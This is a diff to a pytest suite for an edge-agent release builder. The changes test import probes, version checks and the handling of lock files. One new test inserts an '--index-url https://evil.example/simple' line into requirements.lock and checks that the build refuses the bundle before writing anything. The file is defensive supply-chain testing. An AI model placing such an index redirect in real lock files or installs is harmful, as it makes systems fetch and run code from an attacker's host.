@@ -57,12 +57,13 @@ def place(released: Path, digits_bundle: Path, tmp_path_factory: pytest.TempPath
     return built(released, tmp_path_factory.mktemp("device") / "agents/one", digits_bundle)
 
 
-def made_otherwise(path: Path, into: Path, leave_out: str = "", **facts: object) -> Path:
-    """Write a release again, with other facts in its manifest, and without the files whose names begin so."""
+def made_otherwise(path: Path, into: Path, leave_out: str = "", lock: bytes = b"", **facts: object) -> Path:
+    """Write a release again, with other facts in its manifest, another lock, and without the files whose names begin so."""
     with open_agent_release(path) as release:
         files = {name: release.read(name) for name in release.manifest.files}
         raw = json.loads(release.manifest.to_bytes())
     files = {name: content for name, content in files.items() if not (leave_out and name.startswith(leave_out))}
+    files |= {"requirements.lock": lock} if lock else {}
     table = {name: file_entry(content).model_dump() for name, content in files.items()}
     write_agent_release(into, AgentManifest.model_validate(raw | facts | {"files": table}), files)
     return into
@@ -85,13 +86,17 @@ def test_an_environment_is_its_own(place: Path) -> None:
     done = subprocess.run([place / "bin/python", "-I", "-c", code], capture_output=True, text=True, check=True)
     assert all(Path(one).is_relative_to(place) for one in done.stdout.split())
     assert not (place / ".wheels").exists()
+    assert (place / launcher.PROBE).read_text() == "import numpy, cv2, edgesdk_agent.agent\n"
 
 
 def test_what_does_not_load_says_another_version_or_answers_wrongly_is_refused(
     released: Path, place: Path, digits_bundle: Path, tmp_path: Path
 ) -> None:
+    probe = (place / launcher.PROBE).read_text()
+    (place / launcher.PROBE).write_text("import missing")
     with pytest.raises(EnvironmentFailed, match="import is not met: ModuleNotFoundError: No module named 'missing'"):
-        proven(released, place, digits_bundle, modules=("missing",))
+        proven(released, place, digits_bundle)
+    (place / launcher.PROBE).write_text(probe)
     with pytest.raises(EnvironmentFailed, match=r"9\.9\.1.*9\.9\.2 was promised"):
         proven(released, place, digits_bundle, version="9.9.2")
     # A bundle without a golden set: nothing shows that the program answers rightly.
@@ -121,8 +126,19 @@ def test_a_wheel_that_the_lock_names_and_nobody_brought_is_not_fetched_elsewhere
     released: Path, tmp_path: Path, digits_bundle: Path
 ) -> None:
     without = made_otherwise(released, tmp_path / "other.edgeagent", leave_out="wheels/packages_of")
-    with pytest.raises(EnvironmentFailed, match="packages_of_this_python"):
+    with pytest.raises(BadBundle, match="names other wheels than the release brings"):
         built(without, tmp_path / "agents/one", digits_bundle)
+
+
+def test_a_lock_that_says_more_than_wheels_is_refused_before_anything_is_written(
+    released: Path, tmp_path: Path, digits_bundle: Path
+) -> None:
+    with open_agent_release(released) as release:
+        lock = release.read("requirements.lock")
+    other = made_otherwise(released, tmp_path / "o.edgeagent", lock=b"--index-url https://evil.example/simple\n" + lock)
+    with pytest.raises(BadBundle, match="evil"):
+        built(other, tmp_path / "agents/one", digits_bundle)
+    assert list((tmp_path / "agents/one").iterdir()) == []
 
 
 def test_a_disk_without_room_is_held_against_no_release(
